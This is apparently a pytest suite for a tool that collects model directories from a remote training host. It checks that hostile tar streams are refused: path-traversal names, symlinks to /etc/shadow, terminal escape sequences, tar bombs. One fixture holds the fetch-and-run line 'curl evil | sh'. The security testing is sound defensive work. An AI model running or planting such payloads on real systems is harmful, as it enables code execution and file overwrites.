"""The collector: the chief's side (manifest_info: as the job user, no symlink followed) and the control side
(tfcluster.collect.ssh: bounded tar stream, every sha256, versioned copies behind an atomically swapped `current`)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import threading
from pathlib import Path

import pytest
import yaml

from tests.unit.collect.fakes import install_ssh
from tfcluster.collect import ssh as collect
from tfcluster.collect import store, transfer
from tfcluster.core import files, paths

REPO = Path(__file__).resolve().parents[3]
PLUGINS = REPO / "playbooks/collections/ansible_collections/tfcluster/cluster/plugins"


from ansible_collections.tfcluster.cluster.plugins.module_utils.host import modeldir  # noqa: E402

FILES = {"export/saved_model.pb": b"graph" * 1000, "export/variables/v.data": bytes(range(256)) * 4096,
         "checkpoints/ckpt-1.index": b"idx", "metrics.json": b'{"epochs": 3}'}
OPTIONAL = ["status.json", "config.json", "metrics.json"]


def model_dir(root: Path, files: dict[str, bytes], optional: dict[str, bytes] | None = None) -> Path:
    """A finished model dir: the files, their MANIFEST.sha256 and DONE."""
    root.mkdir(parents=True)
    for rel, data in {**files, **(optional or {})}.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    text = "".join(f"{hashlib.sha256(data).hexdigest()}  {rel}\n" for rel, data in sorted(files.items()))
    (root / "MANIFEST.sha256").write_text(text)
    (root / "DONE").write_text("{}\n")
    return root


def request(src: Path, dest: Path, connection: str = "ssh", **more: object) -> dict:
    """What the role sends: manifest_info's answer plus the chief's reach (reach_info) and the limits."""
    info = modeldir.describe(str(src), OPTIONAL)
    reach = {"connection": connection, "host": "10.0.0.5", "port": 22, "user": "ubuntu", "become": False}
    return {"name": "chief-0", "reach": {**reach, **more.pop("reach", {})}, "model_dir": str(src),  # type: ignore[dict-item]
            "manifest": info["manifest"], "files": info["files"], "optional": info["optional"], "dest": str(dest),
            "optional_names": OPTIONAL, **more}


@pytest.fixture
def fake_ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """`ssh ... -- HOST COMMAND` that runs COMMAND here with sh (sudo -n -u X dropped), logging its argv."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "ssh-argv.json"
    (bin_dir / "ssh").write_text(
        f"#!{sys.executable}\nimport json, shlex, subprocess, sys\n"
        f"open({str(log)!r}, 'w').write(json.dumps(sys.argv[1:]))\n"
        "words = shlex.split(sys.argv[-1])\n"
        "words = words[words.index('--') + 1:] if words[0] == 'sudo' else words\n"
        "sys.exit(subprocess.call(words))\n")
    (bin_dir / "ssh").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    return log


def files_under(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


# --- the chief's side --------------------------------------------------------------------------------------------

def test_describe_lists_sizes_of_regular_files(tmp_path: Path) -> None:
    src = model_dir(tmp_path / "m", FILES, optional={"status.json": b"{}"})
    info = modeldir.describe(str(src), OPTIONAL)
    assert info["done"] and not info["problems"]
    sizes = {f["path"]: f["size"] for f in info["files"]}
    assert sizes["export/variables/v.data"] == 256 * 4096 and sizes["DONE"] == 3
    assert info["optional"] == [{"path": "status.json", "size": 2}]  # metrics.json is listed already
    assert info["manifest_sha256"] == hashlib.sha256((src / "MANIFEST.sha256").read_bytes()).hexdigest()


def test_describe_stops_at_a_missing_done(tmp_path: Path) -> None:
    src = model_dir(tmp_path / "m", FILES)
    (src / "DONE").unlink()
    assert modeldir.describe(str(src))["done"] is False


def test_a_manifest_linked_elsewhere_is_refused_without_reading_it(tmp_path: Path) -> None:
    """Tried: a manifest symlinked to /etc/shadow echoed a line of it. Now: refused by O_NOFOLLOW, nothing read."""
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$secret-hash:19000:0:99999:7:::\n")
    src = model_dir(tmp_path / "m", FILES)
    (src / "MANIFEST.sha256").unlink()
    (src / "MANIFEST.sha256").symlink_to(secret)
    with pytest.raises(modeldir.ModelDirError) as error:
        modeldir.describe(str(src))
    assert "without following a link" in str(error.value) and "secret" not in str(error.value)


def test_a_malformed_manifest_line_is_not_echoed(tmp_path: Path) -> None:
    src = model_dir(tmp_path / "m", FILES)
    (src / "MANIFEST.sha256").write_text("root:$6$secret-hash:19000:0:99999:7:::\n")
    with pytest.raises(modeldir.ModelDirError) as error:
        modeldir.describe(str(src))
    assert "line 1" in str(error.value) and "secret" not in str(error.value)


@pytest.mark.parametrize("link", ["export", "export/saved_model.pb"])
def test_a_symlink_below_the_model_dir_is_a_problem(tmp_path: Path, link: str) -> None:
    src = model_dir(tmp_path / "m", FILES)
    elsewhere = tmp_path / "elsewhere"
    (src / link).rename(elsewhere)
    (src / link).symlink_to(elsewhere)
    problems = modeldir.describe(str(src))["problems"]
    assert any("symlink" in p and p.startswith("export/") for p in problems)


def test_a_missing_model_dir_is_a_job_not_finished_there(tmp_path: Path) -> None:
    """A job that never ran on the host (or a dry run): not done, so the collector refuses with its own message."""
    found = modeldir.describe(str(tmp_path / "never-ran"))
    assert found["done"] is False and found["files"] == [] and found["problems"] == []


def test_a_linked_model_dir_is_refused(tmp_path: Path) -> None:
    src = model_dir(tmp_path / "m", FILES)
    (tmp_path / "link").symlink_to(src)
    with pytest.raises(modeldir.ModelDirError, match="cannot be opened as a directory without following a link"):
        modeldir.describe(str(tmp_path / "link"))


# --- the control side: pull, versions ------------------------------------------------------------------------------

@pytest.mark.parametrize("connection", ["ssh", "local"])
def test_pull_brings_every_file_home_verified_versioned_and_is_idempotent(
        tmp_path: Path, fake_ssh: Path, connection: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transfer, "THREADED_WRITE", 100_000)  # the 1 MiB file takes the two-thread path
    src = model_dir(tmp_path / "chief", FILES, optional={"status.json": b"{}"})
    dest = tmp_path / "artifacts" / "job"
    out = collect.pull(request(src, dest, connection))
    version = hashlib.sha256((src / "MANIFEST.sha256").read_bytes()).hexdigest()
    assert out["changed"] is True and out["version"] == version and out["entries"] == len(FILES)
    assert os.readlink(dest / "current") == version
    assert files_under(dest / "current") == {*FILES, "MANIFEST.sha256", "DONE", "status.json"}
    assert files.verify_dir(dest / "current") == len(FILES)
    assert fake_ssh.exists() == (connection == "ssh")
    again = collect.pull(request(src, dest, connection))
    assert again["changed"] is False and "Already collected" in again["msg"]
    assert sorted(p.name for p in dest.iterdir()) == sorted(["current", version])  # no staging left


def test_the_stream_runs_tar_as_the_job_user_with_the_file_list(tmp_path: Path, fake_ssh: Path) -> None:
    src = model_dir(tmp_path / "chief", FILES)
    collect.pull(request(src, tmp_path / "a", reach={"become": True, "become_user": "tfcluster"}))
    remote = json.loads(fake_ssh.read_text())[-1]
    assert remote.startswith("sudo -n -u tfcluster -- tar --no-recursion ")
    assert "-h" not in remote.split() and "--dereference" not in remote
    assert "export/variables/v.data" in remote and "MANIFEST.sha256" in remote


def test_a_recollect_keeps_the_previous_good_copy(tmp_path: Path, fake_ssh: Path) -> None:
    src = model_dir(tmp_path / "chief", FILES)
    dest = tmp_path / "artifacts" / "job"
    first = collect.pull(request(src, dest))["version"]
    (src / "export/saved_model.pb").write_bytes(b"retrained")
    (src / "MANIFEST.sha256").write_text("".join(
        f"{hashlib.sha256((src / rel).read_bytes()).hexdigest()}  {rel}\n" for rel in sorted(FILES)))
    second = collect.pull(request(src, dest))["version"]
    assert first != second and os.readlink(dest / "current") == second
    assert files.verify_dir(dest / first) == len(FILES)  # the older copy is still whole


def test_an_empty_manifest_is_a_success_with_nothing_to_collect(tmp_path: Path, fake_ssh: Path) -> None:
    src = model_dir(tmp_path / "chief", {})
    out = collect.pull(request(src, tmp_path / "a"))
    assert out["empty"] is True and out["entries"] == 0
    assert "nothing to collect" in out["msg"] and "$TFCLUSTER_MODEL_DIR" in out["msg"]


@pytest.mark.parametrize(("damage", "message"), [
    (lambda src: (src / "export/saved_model.pb").write_bytes(b"evil" * 1250), "sha256 mismatch: export/saved_model.pb"),
    (lambda src: (src / "checkpoints/ckpt-1.index").write_bytes(b"much longer"), "11 bytes in the stream but 3"),
    (lambda src: (src / "checkpoints/ckpt-1.index").unlink(), "missing checkpoints/ckpt-1.index"),
])
def test_pull_refuses_a_damaged_model_dir_and_leaves_the_old_copy(tmp_path: Path, fake_ssh: Path, damage,
                                                                  message: str) -> None:
    src = model_dir(tmp_path / "chief", FILES)
    dest = tmp_path / "artifacts" / "job"
    (dest / "old").mkdir(parents=True)
    (dest / "current").symlink_to("old")
    req = request(src, dest)
    damage(src)
    with pytest.raises(collect.CollectError) as error:
        collect.pull(req)
    assert message in str(error.value) and "from chief-0 failed" in str(error.value)
    assert sorted(p.name for p in dest.iterdir()) == ["current", "old"] and os.readlink(dest / "current") == "old"


def sparse_tar(tmp_path: Path, name: str, apparent: int) -> bytes:
    """A ~10 KB tar (GNU tar --sparse) whose one member expands to ``apparent`` bytes."""
    src = tmp_path / "sparse-src"
    src.mkdir()
    with open(src / name, "wb") as handle:
        handle.write(b"x" * 10_000)
        handle.truncate(apparent)
    return subprocess.run(["tar", "--sparse", "-C", str(src), "-cf", "-", name], capture_output=True,
                          check=True).stdout


def plain_tar(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_a_chief_that_sends_too_much_is_cut_off_with_nothing_left(tmp_path: Path) -> None:
    """Tried: a 10 KB tar wrote 64 MiB. Now: a sparse member, a member bigger than the chief reported, or more bytes
    than the budget stop the stream before they are written."""
    sparse = sparse_tar(tmp_path, "DONE", 64 << 20)
    assert len(sparse) < 64 << 10
    cases = [(sparse, {"DONE": transfer.Wanted(None, 64 << 20)}, 128 << 20, "sparse"),
             (plain_tar("DONE", b"y" * 20_000), {"DONE": transfer.Wanted(None, 10_000)}, 1 << 20, "20,000 bytes"),
             (plain_tar("DONE", b"y" * 20_000), {"DONE": transfer.Wanted(None, 20_000)}, 5_000, "sent more than")]
    for index, (data, wanted, cap, message) in enumerate(cases):
        staging = tmp_path / f"staging-{index}"
        staging.mkdir()
        with pytest.raises(transfer.CollectError, match=message):
            transfer.receive(io.BytesIO(data), staging, wanted, transfer.Budget(cap, "chief-0"))
        assert sum(p.stat().st_size for p in staging.rglob("*") if p.is_file()) == 0


def test_byte_cap_counts_free_space_and_collector_max_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(collect.CollectError, match="more than collector_max_bytes=1,000"):
        store.byte_cap(tmp_path, 5_000, max_bytes=1_000)
    monkeypatch.setattr(store.shutil, "disk_usage", lambda _p: type("U", (), {"free": 100 << 20})())
    with pytest.raises(collect.CollectError, match="free"):
        store.byte_cap(tmp_path, 50 << 20)
    assert store.byte_cap(tmp_path, 1_000, slack=10) == 1_010


def test_the_transfer_is_bounded_in_time(tmp_path: Path) -> None:
    class Slow:
        local = False

        def argv(self, _command: list[str], extra_ssh_options: list[str] = ()) -> list[str]:  # type: ignore[assignment]
            return ["sleep", "30"]

    with pytest.raises(collect.CollectError, match="collector_timeout=1"):
        transfer.stream_from(Slow(), "/m", tmp_path, {"DONE": transfer.Wanted(None, 1)},  # type: ignore[arg-type]
                             transfer.Budget(1 << 20, "c"), timeout=1)


def test_cli_names_the_host_when_ssh_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bin_dir = install_ssh(tmp_path / "bin", "#!/bin/sh\necho 'ssh: connect to host 10.0.0.5 port 22: No route to "
                          "host' >&2\nexit 255\n")
    src = model_dir(tmp_path / "chief", FILES)
    env = {**os.environ, "PATH": f"{bin_dir}:/usr/bin:/bin"}
    proc = subprocess.run([sys.executable, "-m", "tfcluster.collect", "pull"], cwd=REPO, env=env,
                          input=json.dumps(request(src, tmp_path / "d")), capture_output=True, text=True, check=False)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    msg = json.loads(proc.stdout)["msg"]
    assert "from chief-0 failed" in msg and "No route to host" in msg and "exited 255" in msg
    assert not (tmp_path / "d").exists()  # not even the directory this run would have made


def test_cli_verify(tmp_path: Path) -> None:
    src = model_dir(tmp_path / "m", FILES)
    proc = subprocess.run([sys.executable, "-m", "tfcluster.collect", "verify", str(src)], cwd=REPO,
                          capture_output=True, text=True, check=True)
    assert json.loads(proc.stdout)["verified"] == len(FILES)


# --- a chief that answers with names nobody asked for ----------------------------------------------------------------
# The host's answer (manifest text, sizes, the tar stream) is data. Tried: an optional member named ../../../x (or an
# absolute path) in the chief's answer was written outside the staging dir and the collect still said "every sha256
# verified". Now the names come from the control side only, each passes one rule, and nothing escapes staging.

ESCAPE = "\x1b]52;c;AAAA\x07"


@pytest.fixture
def evil_chief(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """`ssh` that prints a prepared tar stream whatever it is asked: ``serve(data)``."""
    stream = tmp_path / "evil.tar"
    bin_dir = install_ssh(tmp_path / "evil-bin", f"#!/bin/sh\nexec cat {stream}\n")
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    return stream.write_bytes


def tar_of(src: Path, names: list[str], extra: list[tuple[tarfile.TarInfo, bytes]] = ()) -> bytes:  # type: ignore[assignment]
    """A tar of ``names`` from ``src`` (what an honest chief sends) with ``extra`` members appended."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name in names:
            data = (src / name).read_bytes()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for info, data in extra:
            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return buf.getvalue()


def member(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = "",
           size: int | None = None) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    info.size = len(data) if size is None else size
    return info, data


def honest_names(src: Path) -> list[str]:
    return [*sorted(FILES), "MANIFEST.sha256", "DONE"]


def assert_refused(req: dict, dest: Path, *, names: str, outside: list[Path] = ()) -> str:  # type: ignore[assignment]
    """The collect fails naming the host and ``names`` (as printed), nothing lands outside staging, nor anywhere
    in dest but the old copy, and `current` still points at it."""
    with pytest.raises(collect.CollectError) as error:
        collect.pull(req)
    msg = str(error.value)
    assert "from chief-0 failed" in msg and names in msg, msg
    assert not any(ch in msg for ch in "\x1b\x07\n"), msg  # the name cannot reach the terminal raw
    for path in outside:
        assert not os.path.lexists(path), path
    assert sorted(p.name for p in dest.iterdir()) == ["current", "old"] and os.readlink(dest / "current") == "old"
    return msg


def old_copy(dest: Path) -> Path:
    (dest / "old").mkdir(parents=True)
    (dest / "current").symlink_to("old")
    return dest


@pytest.mark.parametrize("where", ["relative", "absolute"])
def test_an_optional_name_that_escapes_is_never_written(tmp_path: Path, evil_chief, where: str) -> None:
    target = tmp_path / "escaped"
    dest = old_copy(tmp_path / "artifacts" / "job")
    name = "../../../escaped" if where == "relative" else str(target)
    src = model_dir(tmp_path / "chief", FILES)
    req = request(src, dest)
    req["optional"] = [{"path": name, "size": 6}]
    evil_chief(tar_of(src, honest_names(src), [member(name, b"pwned\n")]))
    assert_refused(req, dest, names=repr(name), outside=[target])


def test_an_optional_name_not_configured_is_refused(tmp_path: Path, evil_chief) -> None:
    dest = old_copy(tmp_path / "artifacts" / "job")
    src = model_dir(tmp_path / "chief", FILES, optional={".bashrc": b"curl evil | sh\n"})
    req = request(src, dest)
    req["optional"] = [{"path": ".bashrc", "size": 15}]
    evil_chief(tar_of(src, [*honest_names(src), ".bashrc"]))
    assert_refused(req, dest, names="'.bashrc'")


def test_a_configured_optional_name_that_escapes_is_refused(tmp_path: Path, evil_chief) -> None:
    dest = old_copy(tmp_path / "artifacts" / "job")
    src = model_dir(tmp_path / "chief", FILES)
    req = request(src, dest, optional_names=["status.json", "../up.json"])
    evil_chief(tar_of(src, honest_names(src)))
    msg = assert_refused(req, dest, names="'../up.json'")
    assert "collector_optional_files" in msg


@pytest.mark.parametrize(("extra", "names"), [
    ([member("status.json", kind=tarfile.SYMTYPE, link="/etc/shadow")], "'status.json'"),
    ([member("status.json", kind=tarfile.LNKTYPE, link="DONE")], "'status.json'"),
    ([member("status.json", b"x" * 5000, size=5000)], "status.json is 5,000 bytes in the stream but 2"),
    ([member("..", kind=tarfile.DIRTYPE)], "'..'"),
    ([member(".", kind=tarfile.DIRTYPE)], "'.'"),
    ([member("../../../escaped", b"pwned\n")], "'../../../escaped'"),
    ([member("/tmp/escaped-abs", b"pwned\n")], "'/tmp/escaped-abs'"),
    ([member("a\nb", b"x")], r"'a\nb'"),
    ([member(ESCAPE, b"x")], repr(ESCAPE)),
])
def test_a_member_the_chief_should_not_send_fails_the_collect(tmp_path: Path, evil_chief, extra, names: str) -> None:
    dest = old_copy(tmp_path / "artifacts" / "job")
    src = model_dir(tmp_path / "chief", FILES, optional={"status.json": b"{}"})
    req = request(src, dest)
    evil_chief(tar_of(src, honest_names(src), extra))
    assert_refused(req, dest, names=names, outside=[tmp_path / "escaped", Path("/tmp/escaped-abs")])


def test_a_symlinked_parent_in_staging_is_not_followed(tmp_path: Path) -> None:
    staging, outside = tmp_path / "staging", tmp_path / "outside"
    staging.mkdir()
    outside.mkdir()
    (staging / "export").symlink_to(outside)
    data = plain_tar("export/saved_model.pb", b"graph")
    with pytest.raises(transfer.CollectError, match=r"'export/saved_model\.pb'"):
        transfer.receive(io.BytesIO(data), staging, {"export/saved_model.pb": transfer.Wanted(None, 5)},
                         transfer.Budget(1 << 20, "chief-0"))
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize("name", [ESCAPE, "tab\there", "nul\x00", "del\x7f", "csi\x9b", "bidi\u202egnp.exe"])
def test_a_manifest_line_with_a_control_character_is_refused(tmp_path: Path, evil_chief, name: str) -> None:
    dest = old_copy(tmp_path / "artifacts" / "job")
    src = model_dir(tmp_path / "chief", FILES)
    req = request(src, dest)
    line = f"{hashlib.sha256(b'x').hexdigest()}  {name}\n"
    req["manifest"] += line
    (src / "MANIFEST.sha256").write_text(req["manifest"])
    sizes = {"MANIFEST.sha256": len(req["manifest"].encode())}
    req["files"] = [{**f, "size": sizes.get(f["path"], f["size"])} for f in req["files"]]
    req["files"].append({"path": name, "size": 1, "sha256": hashlib.sha256(b"x").hexdigest()})
    evil_chief(tar_of(src, honest_names(src), [member(name, b"x")]))
    msg = assert_refused(req, dest, names="MANIFEST.sha256 line 5")
    assert "control character" in msg


@pytest.mark.parametrize(("rel", "why"), [
    ("", "empty"), ("/etc/passwd", "absolute"), ("a/../b", "'..'"), ("..", "'..'"), ("./a", "'.'"), ("a//b", "empty"),
    ("a/", "empty"), ("a\\b", "backslash"), ("a\x00b", "control character"), ("a\rb", "control character"),
    ("\x1b[2J", "control character"), ("x" * 5000, "long"),
])
def test_the_name_rule(rel: str, why: str) -> None:
    problem = files.rel_problem(rel)
    assert problem is not None and why in problem
    with pytest.raises(files.ManifestError):
        files.parse_manifest(f"{'0' * 64}  {rel}\n")


@pytest.mark.parametrize("rel", ["a", "export/saved_model.pb", "status.json", "ünï cödé/файл.bin", "a b", ".hidden"])
def test_the_name_rule_keeps_ordinary_names(rel: str) -> None:
    assert files.rel_problem(rel) is None
    assert files.parse_manifest(f"{'0' * 64}  {rel}\n") == [("0" * 64, rel)]


def test_the_chief_side_refuses_an_optional_name_outside_the_model_dir(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("not yours")
    src = model_dir(tmp_path / "m", FILES)
    with pytest.raises(modeldir.ModelDirError, match=r"'\.\./secret'"):
        modeldir.describe(str(src), ["status.json", "../secret"])


def test_a_local_copy_refuses_a_file_whose_size_changed(tmp_path: Path) -> None:
    src = model_dir(tmp_path / "chief", FILES)
    dest = old_copy(tmp_path / "artifacts" / "job")
    req = request(src, dest, "local")
    (src / "checkpoints/ckpt-1.index").write_bytes(b"much longer")
    assert_refused(req, dest, names="checkpoints/ckpt-1.index")


@pytest.mark.parametrize("link", ["export", "export/saved_model.pb"])
def test_a_link_inside_staging_is_not_followed_either(tmp_path: Path, link: str) -> None:
    """The second guard: a link that resolves inside staging still is not followed (O_NOFOLLOW, O_EXCL)."""
    staging = tmp_path / "staging"
    (staging / "other").mkdir(parents=True)
    (staging / link).parent.mkdir(parents=True, exist_ok=True)
    (staging / link).symlink_to(staging / "other")
    with pytest.raises(transfer.CollectError, match="without following a link"):
        transfer.open_inside(staging, "export/saved_model.pb")
    assert list((staging / "other").iterdir()) == []


def test_the_role_asks_for_the_configured_optional_names() -> None:
    """The set of files is the control side's: the role passes collector_optional_files, not the chief's list."""
    role_vars = yaml.safe_load((paths.ROLES / "collector/vars/main.yml").read_text())
    for request_var in ("_collector_request", "_collector_s3_request"):
        assert role_vars[request_var]["optional_names"] == "{{ collector_optional_files }}"
    assert "collector_optional_files" not in str(role_vars["_collector_request"].get("optional"))


def test_a_manifest_is_never_written_for_a_name_the_collector_would_refuse(tmp_path: Path) -> None:
    """A job that writes a file named with an escape fails at the manifest, naming it, instead of leaving a model
    dir whose manifest nobody can collect."""
    from tfcluster.core.files import ManifestError, write_manifest

    (tmp_path / "ok.txt").write_text("fine")
    (tmp_path / "bad\x1b]52;c;AAAA\x07").write_text("payload")
    with pytest.raises(ManifestError, match="control character") as caught:
        write_manifest(tmp_path)
    assert "\x1b" not in str(caught.value) and not (tmp_path / "MANIFEST.sha256").exists()


# --- parallel streams (issue 23: the collector keeps up with scp) ------------------------------------------------

def wanted_of(sizes: dict[str, int]) -> dict[str, transfer.Wanted]:
    return {name: transfer.Wanted(None, size) for name, size in sizes.items()}


def test_one_stream_unless_two_members_are_big() -> None:
    big = transfer.PARALLEL_MIN
    assert transfer.plan_streams(wanted_of({"a": big, "b": 10, "c": 5})) == [["a", "b", "c"]]
    groups = transfer.plan_streams(wanted_of({"a": big, "b": big, "c": 3 * big, "d": 1, "e": 2}), streams=2)
    assert len(groups) == 2 and sorted(n for g in groups for n in g) == ["a", "b", "c", "d", "e"]
    assert ["c"] in [[n for n in g if n not in {"d", "e"}] for g in groups]  # the biggest alone, the rest beside
    many = transfer.plan_streams(wanted_of({f"f{i}": big for i in range(9)}), streams=4)
    assert len(many) == 4 and sorted(len(g) for g in many) == [2, 2, 2, 3]


def test_parallel_streams_bring_every_file_home_verified(tmp_path: Path, fake_ssh: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transfer, "PARALLEL_MIN", 1000)  # every member over 1 KB gets a stream
    calls: list[list[str]] = []
    real = transfer._stream

    def counted(argv, staging, wanted, budget, running):  # type: ignore[no-untyped-def]
        calls.append(sorted(wanted))
        return real(argv, staging, wanted, budget, running)

    monkeypatch.setattr(transfer, "_stream", counted)
    src = model_dir(tmp_path / "chief", FILES)
    dest = tmp_path / "artifacts" / "job"
    out = collect.pull(request(src, dest))
    assert len(calls) >= 2 and sorted(n for c in calls for n in c) == sorted([*FILES, "MANIFEST.sha256", "DONE"])
    assert out["entries"] == len(FILES) and files.verify_dir(dest / "current") == len(FILES)


def test_a_stream_that_sends_another_streams_member_fails_the_collect(tmp_path: Path, evil_chief,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """Each stream may hold only the names asked of it: a chief that answers every stream with all of them fails."""
    monkeypatch.setattr(transfer, "PARALLEL_MIN", 1000)
    dest = old_copy(tmp_path / "artifacts" / "job")
    src = model_dir(tmp_path / "chief", FILES)
    evil_chief(tar_of(src, honest_names(src)))
    assert_refused(request(src, dest), dest, names="which was not asked for")


def test_prefetch_reads_the_pipe_whole_in_order() -> None:
    data = os.urandom(3 * files.BLOCK + 17)
    read, write = os.pipe()
    def send() -> None:
        with os.fdopen(write, "wb") as out:
            out.write(data)

    sender = threading.Thread(target=send)
    sender.start()
    with os.fdopen(read, "rb", buffering=0) as raw:
        ahead = transfer.Prefetch(raw, depth=2)
        got = b"".join(iter(lambda: ahead.read(1000), b""))
        ahead.close()
    sender.join()
    assert got == data
